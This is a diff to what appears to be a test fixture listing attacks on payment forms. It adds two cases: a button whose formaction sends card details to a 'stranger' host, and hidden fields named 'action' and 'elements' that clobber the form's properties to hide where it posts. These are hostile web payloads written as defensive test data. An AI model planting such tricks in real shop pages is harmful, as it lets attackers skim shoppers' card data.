@@ -119,6 +119,21 @@ export const frameAttacks: readonly Attack[] = [
     pages: (at) => ({ shop: cardForm({ form: `action="${at('stranger')}" method="post"` }) }),
   },
   {
+    title: 'a button beside the form of the shop sends it to a stranger',
+    pages: (at) => ({
+      shop: `${cardForm({ form: 'id="f" action="/pay"' })}<button form="f" formaction="${at('stranger')}">Pay</button>`,
+    }),
+  },
+  {
+    title: 'the form has a field that is called as its address is',
+    pages: (at) => ({
+      shop: cardForm({ form: `action="${at('stranger')}"` }).replace(
+        '</form>',
+        '<input type="hidden" name="action" value="/pay"><input type="hidden" name="elements"></form>',
+      ),
+    }),
+  },
+  {
     title: 'the form in the provider’s frame is sent to a stranger',
     pages: (at) => ({ shop: frame(at('pay')), pay: cardForm({ form: `action="${at('stranger')}" method="post"` }) }),
   },
